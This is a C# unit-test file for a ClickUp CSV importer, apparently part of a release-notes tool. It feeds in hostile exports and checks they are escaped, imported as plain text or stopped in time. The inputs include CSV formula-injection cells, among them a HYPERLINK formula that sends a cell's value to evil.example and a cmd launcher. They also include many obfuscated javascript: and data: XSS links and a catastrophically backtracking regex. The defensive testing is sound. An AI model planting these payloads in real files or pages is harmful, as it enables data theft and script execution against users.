using System.Text;
using BfReleaseNotes.Migration;
using BfReleaseNotes.Workspace;
using Markdig.Syntax;
using Markdig.Syntax.Inlines;

namespace BfReleaseNotes.Tests.Migration;

/// <summary>
/// Exports written by someone hostile (or a spreadsheet): formulas in cells, links that run script, a pattern that
/// backtracks without end, a warning on every row. The import neutralises, summarises and stops in time.
/// </summary>
public sealed class HostileExportTests : IDisposable
{
    private static readonly string[] Header = ["Task ID", "Task Name", "Status", "Due Date", "Tags", "Release"];
    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    /// <summary>The CSV payload set: what OWASP lists as starting a formula, and a cell that already starts with the escape.</summary>
    public static TheoryData<string> FormulaCells() =>
    [
        "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already escaped",
        "'plain quote",
    ];

    [Theory]
    [MemberData(nameof(FormulaCells))]
    public void A_rejected_cell_that_a_spreadsheet_would_run_is_escaped_and_its_original_is_recoverable(string cell)
    {
        var csv = Write(["86a", cell, "open", "1731643582000", "[bug]", "1.0.0"]);

        var import = ClickUpImporter.Import(csv, Mapping());

        var rows = ClickUpImporterTests.ReadCsv(import.RejectsCsv);
        var written = rows[1][5 + Array.IndexOf(Header, "Task Name")];
        Assert.StartsWith("'", written, StringComparison.Ordinal);
        Assert.Equal(cell, RejectsWriter.Original(written));
        Assert.All(rows.SelectMany(row => row), value => Assert.False(value.Length > 0 && "=+-@\t\r".Contains(value[0], StringComparison.Ordinal), value));
    }

    [Fact]
    public void Cells_that_cannot_be_formulas_are_written_as_they_are()
    {
        var csv = Write(["86a", "Exports no longer time out", "open", "1731643582000", "[bug]", "1.0.0"]);

        var import = ClickUpImporter.Import(csv, Mapping());

        var row = ClickUpImporterTests.ReadCsv(import.RejectsCsv)[1];
        Assert.Equal(["1", "2", "86a", RejectReason.Status], row[..4]);
        Assert.Equal("Exports no longer time out", row[6]);
    }

    /// <summary>Link forms from issue 9 and the OWASP XSS filter-evasion list, as a ClickUp task name or description may hold them.</summary>
    public static TheoryData<string> ScriptLinks() =>
    [
        "<a href=\"javascript:alert(1)\">Click me</a>",
        "<a href='JaVaScRiPt:alert(1)'>Click me</a>",
        "<a href=\"java&#x73;cript:alert(1)\">Click me</a>",
        "<a href=\"javascript&#58;alert(1)\">Click me</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Click me</a>",
        "<a href=\" &#14; javascript:alert(1)\">Click me</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Click me</a>",
        "<a href=\"vbscript:msgbox(1)\">Click me</a>",
        "[Click me](javascript:alert(1))",
        "[Click me](<javascript:alert(1)>)",
        "[Click me](JAVASCRIPT:alert(1))",
        "[Click me](java&#x73;cript:alert(1))",
        "[Click me](javascript://%0Aalert(1))",
        "![Click me](javascript:alert(1))",
        "<javascript:alert(1)> Click me",
        "<vbscript:msgbox(1)> Click me",
        "[Click me][evil]\n\n[evil]: javascript:alert(1)",
        "[Click me](data:text/html,<script>alert(1)</script>)",
    ];

    [Theory]
    [MemberData(nameof(ScriptLinks))]
    public void A_task_with_a_script_link_is_imported_as_text_never_as_a_link(string name)
    {
        var csv = Write(["86a", name, "complete", "1731643582000", "[bug]", "1.0.0"]);

        var import = ClickUpImporter.Import(csv, Mapping());

        var release = Assert.Single(import.Releases);
        Assert.Equal(1, release.Entries);
        Assert.Contains("Click me", release.Text, StringComparison.Ordinal);
        var document = Markdig.Markdown.Parse(release.Text);
        var targets = document.Descendants<LinkInline>().Select(link => link.Url)
            .Concat(document.Descendants<AutolinkInline>().Select(link => link.Url));
        Assert.All(targets, url => Assert.StartsWith("https://app.clickup.com/t/", url, StringComparison.Ordinal));
        ClickUpImporterTests.AssertLintClean(import);
    }

    [Fact]
    public void A_neutralised_link_is_reported_as_a_warning()
    {
        var csv = Write(["86a", "[Click me](javascript:alert(1))", "complete", "1731643582000", "[bug]", "1.0.0"]);

        var import = ClickUpImporter.Import(csv, Mapping());

        Assert.Contains("\\[Click me](javascript:alert(1)) ([CU-86a])", Assert.Single(import.Releases).Text, StringComparison.Ordinal);
        Assert.Contains("imported as plain text", Assert.Single(import.Warnings, group => group.Kind == "unsafe-link").Examples[0], StringComparison.Ordinal);
    }

    [Fact]
    public void Safe_links_stay_links()
    {
        var csv = Write(["86a", "See [the docs](https://docs.example.com/a) and <mailto:help@example.com> and [here](/relative)", "complete", "1731643582000", "[bug]", "1.0.0"]);

        var import = ClickUpImporter.Import(csv, Mapping());

        var document = Markdig.Markdown.Parse(Assert.Single(import.Releases).Text);
        Assert.Equal(
            ["https://docs.example.com/a", "mailto:help@example.com", "/relative"],
            document.Descendants<Inline>().Select(inline => inline switch { LinkInline link => link.Url, AutolinkInline auto => "mailto:" + auto.Url.Replace("mailto:", string.Empty, StringComparison.Ordinal), _ => null })
                .Where(url => url is not null && !url.StartsWith("https://app.clickup.com", StringComparison.Ordinal)));
        Assert.DoesNotContain(import.Warnings, group => group.Kind == "unsafe-link");
    }

    [Fact]
    public void A_warning_repeated_on_every_row_is_one_summary_with_a_count_and_three_examples_and_the_callback_sees_all()
    {
        var rows = Enumerable.Range(0, 500).Select(i => new[] { $"86a{i}", $"<b>Bold</b> fix {i}", "complete", "1731643582000", "[bug]", "1.0.0" }).ToArray();
        var csv = Write(rows);
        var seen = new List<string>();

        var import = ClickUpImporter.Import(csv, Mapping(), onWarning: seen.Add);

        var group = Assert.Single(import.Warnings);
        Assert.Equal(("html-reduced", 500L), (group.Kind, group.Count));
        Assert.Equal(3, group.Examples.Length);
        Assert.StartsWith("row 1 ", group.Examples[0], StringComparison.Ordinal);
        Assert.Equal(500, seen.Count);
        Assert.Equal(500L, import.WarningCount);
    }

    [Theory]
    [InlineData("Phase 3", "3.0.0")]
    [InlineData("Release 3", "3.0.0")]
    [InlineData("Phase 3.14", "3.14.0")]
    [InlineData("Phase 3.14.2", "3.14.2")]
    public void Single_number_versions_are_completed_when_the_mapping_asks(string release, string version)
    {
        var csv = Write(["86a", "Exports no longer time out", "complete", "1731643582000", "[bug]", release]);

        var completed = ClickUpImporter.Import(csv, Mapping(versionPattern: @"^(?:Phase|Release)\\s+(?<version>\\d+(?:\\.\\d+){0,2})$", complete: true));
        var kept = ClickUpImporter.Import(csv, Mapping(versionPattern: @"^(?:Phase|Release)\\s+(?<version>\\d+(?:\\.\\d+){0,2})$", complete: false));

        Assert.Equal(version, Assert.Single(completed.Releases).Version.ToString());
        if (version.EndsWith(".0", StringComparison.Ordinal) && release.Count(c => c == '.') < 2)
        {
            var reject = Assert.Single(kept.Rejects);
            Assert.Contains($"set release.completePartialVersions to true to read it as {version}", reject.Detail, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void A_pattern_that_backtracks_without_end_stops_the_run_once_the_run_budget_is_spent()
    {
        // Each row its own hostile value (the backtracking stops at the '!'), so no caching of one value could pass this.
        var rows = Enumerable.Range(0, 50).Select(i => new[] { $"86a{i}", "Fix", "complete", "1731643582000", "[bug]", new string('a', 40) + "!" + i }).ToArray();
        var csv = Write(rows);
        var mapping = Mapping(versionPattern: @"^(?<version>(a+)+)$", complete: false);

        // 50 rows at a 1 s limit each would take 50 s; the run's budget ends it after about 5 s.
        var exception = HangLimit.Run(() => Assert.Throws<EnvironmentException>(() => ClickUpImporter.Import(csv, mapping)));

        // Every value tried timed out, each after its own 1 s limit (not the budget left), so several were tried.
        var counts = System.Text.RegularExpressions.Regex.Match(
            exception.Message,
            @"^release\.versionPattern used the run's whole matching budget \(5 s\) after (?<values>[0-9]+) values \((?<timeouts>[0-9]+) of them over the 1 s limit each\); simplify the pattern \(nested quantifiers such as '\(a\+\)\+' backtrack without end on some text\) and run again\. Nothing was written\.$");
        Assert.True(counts.Success, exception.Message);
        Assert.Equal(counts.Groups["values"].Value, counts.Groups["timeouts"].Value);
        Assert.InRange(int.Parse(counts.Groups["values"].Value, System.Globalization.CultureInfo.InvariantCulture), 2, 7);
    }

    private string Write(params string[][] rows)
    {
        var path = Path.Combine(_temp.Path, "export.csv");
        File.WriteAllText(path, ClickUpImporterTests.Line(Header) + string.Concat(rows.Select(ClickUpImporterTests.Line)), new UTF8Encoding(false));
        return path;
    }

    private static ClickUpMapping Mapping(string? versionPattern = null, bool complete = false) => ClickUpMapping.Parse(Encoding.UTF8.GetBytes($$"""
        { "shape": "entry-per-row", "columns": { "taskId": ["Task ID"], "status": ["Status"] }, "statuses": ["complete"],
          "release": { "version": ["Release"], "date": ["Due Date"]{{(versionPattern is null ? string.Empty : $", \"versionPattern\": \"{versionPattern}\"")}}, "completePartialVersions": {{(complete ? "true" : "false")}} },
          "entry": { "text": ["Task Name"] }, "types": { "from": ["Tags"], "values": { "bug": "Fixed" } } }
        """), "mapping.json");
}
